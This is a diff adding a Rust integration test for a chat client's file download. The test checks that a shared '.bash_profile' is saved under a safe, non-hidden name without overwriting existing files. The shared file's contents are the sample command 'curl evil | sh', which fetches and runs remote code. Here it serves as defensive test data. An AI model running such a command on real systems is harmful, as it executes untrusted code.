@@ -350,3 +350,36 @@ async fn text_from_others_reaches_the_plain_client_without_control_characters() 
     );
     server.shutdown().await;
 }
+
+#[tokio::test]
+async fn get_saves_a_shared_file_under_a_safe_name_in_the_current_directory() {
+    let data = temp_dir("get");
+    let server = start(&data, |_| {}).await;
+    let transport = parley_client::Transport::Plain;
+    let (alice, _events, _) =
+        parley_client::Client::connect(&server.native.to_string(), &transport).await.expect("connects");
+    alice.hello("alice").await.expect("welcomed");
+    let source = data.join(".bash_profile");
+    std::fs::write(&source, b"curl evil | sh\n").expect("written");
+    let room = parley_client::Audience::Room("lobby".into());
+    let sent = alice.send_file(&source, room, |_| {}).await.expect("shared");
+    let here = data.join("downloads");
+    std::fs::create_dir_all(&here).expect("dir");
+    std::fs::write(here.join("bash_profile"), b"mine").expect("written");
+
+    let id = &sent.info.file;
+    let mut command = chat(&["--plain", "--name", "bob", &server.native.to_string()], &data.join("kh"));
+    command.current_dir(&here);
+    let output = run_with_input(command, &format!("/get {id}\n/get {id} given\n")).await;
+    assert!(output.status.success(), "{output:?}");
+    let stdout = text(&output.stdout);
+    assert!(
+        stdout.contains("Saved .bash_profile (15 B, SHA-256 verified) from alice to ./bash_profile (1)"),
+        "{stdout}"
+    );
+    assert_eq!(std::fs::read(here.join("bash_profile (1)")).expect("saved"), b"curl evil | sh\n");
+    assert_eq!(std::fs::read(here.join("bash_profile")).expect("kept"), b"mine");
+    assert_eq!(std::fs::read(here.join("given")).expect("saved as given"), b"curl evil | sh\n");
+    assert!(!here.join(".bash_profile").exists(), "no hidden file appears");
+    server.shutdown().await;
+}
